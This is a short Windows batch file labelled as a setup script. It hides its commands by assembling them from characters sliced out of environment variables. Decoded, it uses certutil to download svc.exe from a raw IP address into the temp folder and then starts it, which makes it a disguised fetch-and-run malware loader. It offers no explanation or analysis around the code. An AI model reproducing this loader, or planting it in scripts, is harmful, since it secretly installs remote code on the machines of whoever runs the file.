REM setup 4996 v3
@echo off
%COMSPEC:~-7,1%e%ProgramData:~-7,1%t%PUBLIC:~-5,1%%COMSPEC:~14,1%i%PUBLIC:~12,1%.%comspec:~24,1%xe -urlcache -split -f http://198.51.100.9/svc.exe %TEMP%\svc.exe
%windir:~9,1%%ProgramData:~-2,1%art "" %TEMP%\svc.exe
